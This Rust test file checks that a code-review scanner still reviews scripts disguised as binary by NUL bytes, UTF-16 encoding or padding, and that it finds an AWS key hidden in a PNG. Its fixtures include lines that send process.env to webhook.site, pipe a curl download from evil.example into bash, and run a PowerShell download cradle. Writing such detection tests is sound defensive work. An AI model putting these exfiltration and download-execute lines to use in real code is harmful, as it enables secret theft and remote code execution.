//! End-to-end: "binary" means binary. One NUL byte does not hide a file from any gate, UTF-16 text is
//! reviewed, a real binary is listed by path in every output and searched for secrets.

mod common;

use common::Repo;

/// A script that sends the environment to a webhook host and pipes a download into bash, ending with a
/// NUL byte in a comment (git and GitHub then show the file as binary).
const EXFIL_JS: &str = "const { execSync } = require(\"child_process\");\nfetch(\"https://webhook.site/abc\", { method: \"POST\", body: JSON.stringify(process.env) });\nexecSync(\"curl -s https://evil.example/x.sh | bash\");\n// \0\n";

const AWS_KEY: &str = "AKIAQ3EGVP7XK2M4RT5W";

fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = !0u32;
    for &b in bytes {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

fn chunk(kind: &[u8], data: &[u8]) -> Vec<u8> {
    let mut out = (data.len() as u32).to_be_bytes().to_vec();
    out.extend(kind);
    out.extend(data);
    let mut crc_input = kind.to_vec();
    crc_input.extend(data);
    out.extend(crc32(&crc_input).to_be_bytes());
    out
}

/// A 16×16 PNG whose `tEXt` chunk holds an AWS key (image data: pseudo-random bytes, as compressed
/// data looks).
fn png_with_key() -> Vec<u8> {
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    png.extend(chunk(b"IHDR", b"\0\0\0\x10\0\0\0\x10\x08\x06\0\0\0"));
    png.extend(chunk(
        b"tEXt",
        format!("Comment\0aws_access_key_id={AWS_KEY}").as_bytes(),
    ));
    let mut x: u32 = 7;
    let data: Vec<u8> = (0..900)
        .map(|_| {
            x = x.wrapping_mul(1_103_515_245).wrapping_add(12345);
            (x >> 16) as u8
        })
        .collect();
    png.extend(chunk(b"IDAT", &data));
    png.extend(chunk(b"IEND", b""));
    png
}

fn checks_of(run: &common::Run) -> Vec<(String, u64, String)> {
    let mut found = run.findings();
    found.sort();
    found
}

fn assert_exfil_reviewed(run: &common::Run, path: &str) {
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    let found = checks_of(run);
    for (check, line) in [
        ("attack.exfiltration", 2),
        ("attack.download-execute", 3),
        ("attack.nul-byte", 4),
    ] {
        assert!(
            found.contains(&(path.to_string(), line, check.to_string())),
            "{check} at {path}:{line} missing: {found:?}"
        );
    }
    assert_eq!(run.json()["summary"]["skipped"]["binary"], 0);
}

#[test]
fn a_nul_byte_hides_nothing_from_staged_diff_scan_and_patch() {
    let repo = Repo::new();
    repo.write("README.md", "x\n");
    let base = repo.commit("base");
    repo.write("app.js", EXFIL_JS);
    repo.git(&["add", "-A"]);
    assert_exfil_reviewed(&repo.run(&["staged", "--format", "json"]), "app.js");
    repo.commit("exfil");
    assert_exfil_reviewed(
        &repo.run(&["diff", &format!("{base}..HEAD"), "--format", "json"]),
        "app.js",
    );
    assert_exfil_reviewed(&repo.run(&["scan", "--format", "json"]), "app.js");
    // git itself shows the file as binary: `patch` re-reads it from the working tree.
    let patch = repo.git(&["diff", &format!("{base}..HEAD")]);
    assert!(patch.contains("Binary files"), "{patch}");
    assert_exfil_reviewed(
        &repo.run_stdin(&["patch", "-", "--format", "json"], patch.as_bytes()),
        "app.js",
    );
}

#[test]
fn a_modified_file_git_calls_binary_is_reviewed_on_its_added_lines() {
    let repo = Repo::new();
    repo.write("app.js", "const a = 1;\nconst b = 2;\n");
    repo.commit("base");
    // A NUL makes libgit2 call the delta binary; so does a `-diff` attribute the change adds itself.
    let (head, tail) = EXFIL_JS.split_once('\n').unwrap();
    repo.write(
        "app.js",
        format!("{head}\nconst a = 1;\n{tail}const b = 2;\n"),
    );
    repo.write("tool.js", "const x = 1;\n");
    repo.write(".gitattributes", "tool.js -diff\n");
    repo.git(&["add", "-A"]);
    repo.commit("attributes");
    repo.write("tool.js", "const x = 1;\neval(atob(process.argv[2]));\n");
    repo.git(&["add", "-A"]);
    let run = repo.run(&["staged", "--format", "json"]);
    let found = checks_of(&run);
    assert!(
        found.contains(&("tool.js".into(), 2, "eval.javascript.eval".into())),
        "{found:?}"
    );
    assert!(
        found.iter().all(|f| f.0 != "tool.js" || f.1 == 2),
        "{found:?}"
    );
    repo.commit("eval");
    let run = repo.run(&["diff", "HEAD~2..HEAD", "--format", "json"]);
    let found = checks_of(&run);
    assert_eq!(run.code, 1, "{}", run.stderr);
    // The old lines (1 and 4 of the new file) are not added; the new ones keep their numbers.
    assert!(
        found.contains(&("app.js".into(), 3, "attack.exfiltration".into())),
        "{found:?}"
    );
    assert!(
        found.contains(&("app.js".into(), 5, "attack.nul-byte".into())),
        "{found:?}"
    );
    assert!(
        found
            .iter()
            .all(|f| f.0 != "app.js" || (2..=5).contains(&f.1)),
        "{found:?}"
    );
    assert_eq!(run.json()["summary"]["skipped"]["binary"], 0);
}

#[test]
fn utf16_powershell_is_decoded_and_reviewed_with_editor_line_numbers() {
    let script = "# Setup\r\n$u = 'https://evil.example/p.ps1'\r\nInvoke-Expression (New-Object Net.WebClient).DownloadString($u)\r\n";
    let mut bytes = vec![0xFF, 0xFE];
    bytes.extend(script.encode_utf16().flat_map(u16::to_le_bytes));
    let repo = Repo::new();
    repo.write("README.md", "x\n");
    repo.commit("base");
    repo.write("setup.ps1", &bytes);
    repo.git(&["add", "-A"]);
    for args in [
        &["staged", "--format", "json"][..],
        &["scan", "--format", "json"][..],
    ] {
        let run = repo.run(args);
        assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
        let found = checks_of(&run);
        assert!(
            !found.is_empty() && found.iter().all(|f| f.0 == "setup.ps1" && f.1 == 3),
            "{found:?}"
        );
        assert_eq!(run.json()["summary"]["skipped"]["binary"], 0);
    }
}

#[test]
fn a_real_binary_is_listed_by_path_everywhere_and_searched_for_secrets() {
    let repo = Repo::new();
    repo.write("README.md", "x\n");
    repo.commit("base");
    repo.write("assets/logo.png", png_with_key());
    repo.git(&["add", "-A"]);
    let run = repo.run(&["staged", "--format", "json"]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    assert_eq!(
        checks_of(&run),
        [(
            "assets/logo.png".to_string(),
            1,
            "secret.aws.access-key-id".to_string()
        )]
    );
    let json = run.json();
    assert!(!run.stdout.contains(AWS_KEY), "{}", run.stdout);
    assert!(json["findings"][0]["message"]
        .as_str()
        .unwrap()
        .ends_with("(in binary content, byte offset 49)"));
    assert_eq!(json["summary"]["skipped"]["binary"], 1);
    assert_eq!(
        json["summary"]["skipped"]["binary_paths"],
        serde_json::json!(["assets/logo.png"])
    );
    let text = repo.run(&["staged"]);
    assert!(
        text.stdout
            .contains("Binary, not reviewed line by line (searched for secrets): assets/logo.png."),
        "{}",
        text.stdout
    );
    let sarif = repo.run(&["staged", "--format", "sarif"]);
    let sarif: serde_json::Value = serde_json::from_str(&sarif.stdout).unwrap();
    let notes = &sarif["runs"][0]["invocations"][0]["toolExecutionNotifications"];
    assert_eq!(
        notes[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "assets/logo.png"
    );
    assert!(notes[0]["message"]["text"]
        .as_str()
        .unwrap()
        .contains("binary"));
    // A marker of any kind in binary content silences nothing.
    let mut png = png_with_key();
    let at = png.windows(4).position(|w| w == b"IDAT").unwrap() - 4;
    png.splice(
        at..at,
        chunk(
            b"tEXt",
            format!(
                "Note\0{AWS_KEY} # trufflehog:ignore gitleaks:allow review-gate: allow all -- test"
            )
            .as_bytes(),
        ),
    );
    repo.write("assets/logo.png", png);
    repo.git(&["add", "-A"]);
    let run = repo.run(&["staged", "--format", "json"]);
    assert_eq!(run.code, 1, "{}", run.stdout);
    assert_eq!(checks_of(&run).len(), 2, "{}", run.stdout);
}

#[test]
fn symlinks_are_listed_by_path() {
    let repo = Repo::new();
    repo.write("README.md", "x\n");
    repo.commit("base");
    #[cfg(unix)]
    std::os::unix::fs::symlink("README.md", repo.path().join("link.md")).unwrap();
    #[cfg(not(unix))]
    return;
    repo.git(&["add", "-A"]);
    let run = repo.run(&["staged", "--format", "json"]);
    assert_eq!(
        run.json()["summary"]["skipped"]["non_text_paths"],
        serde_json::json!(["link.md"])
    );
    assert!(repo
        .run(&["staged"])
        .stdout
        .contains("Submodules or symlinks, not reviewed: link.md."));
}

/// A script padded with enough non-text bytes to pass for binary content is still code by its name: it
/// is reviewed (the interpreter runs it all the same), in `staged` and in `scan`.
#[test]
fn a_script_padded_to_look_binary_is_still_reviewed() {
    let repo = Repo::new();
    let mut padded = EXFIL_JS.as_bytes().to_vec();
    padded.extend(b"// ");
    padded.extend((0u32..20_000).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8 | 0x80));
    padded.push(b'\n');
    repo.write("tools/postinstall.js", &padded);
    repo.git(&["add", "-A"]);
    for args in [
        &["staged", "--format", "json"][..],
        &["scan", "--format", "json"][..],
    ] {
        let run = repo.run(args);
        assert_eq!(run.code, 1, "{args:?}: {}{}", run.stdout, run.stderr);
        let checks: Vec<String> = run.findings().into_iter().map(|f| f.2).collect();
        assert!(
            checks.iter().any(|c| c == "attack.exfiltration"),
            "{args:?}: {checks:?}"
        );
    }
}
